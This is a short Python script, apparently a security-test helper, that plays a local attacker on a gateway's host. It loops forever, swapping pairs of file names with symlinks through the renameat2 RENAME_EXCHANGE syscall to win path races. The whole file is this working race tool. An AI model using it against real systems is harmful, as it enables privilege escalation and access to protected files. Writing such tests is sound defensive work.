# SPDX-License-Identifier: Apache-2.0
"""Somebody with a login on the gateway's host, who swaps names for links: path_race.py FOLDER A B [A B ...]

Exchanges each pair of names below FOLDER, again and again, until it is ended.
"""
import ctypes
import os
import sys

SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
EXCHANGE = 2

folder = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
names = [name.encode() for name in sys.argv[2:]]
pairs = list(zip(names[::2], names[1::2]))
call = ctypes.CDLL(None).syscall
print("swapping", flush=True)
while True:
    for a, b in pairs:
        call(SYS_RENAMEAT2, folder, a, folder, b, EXCHANGE)
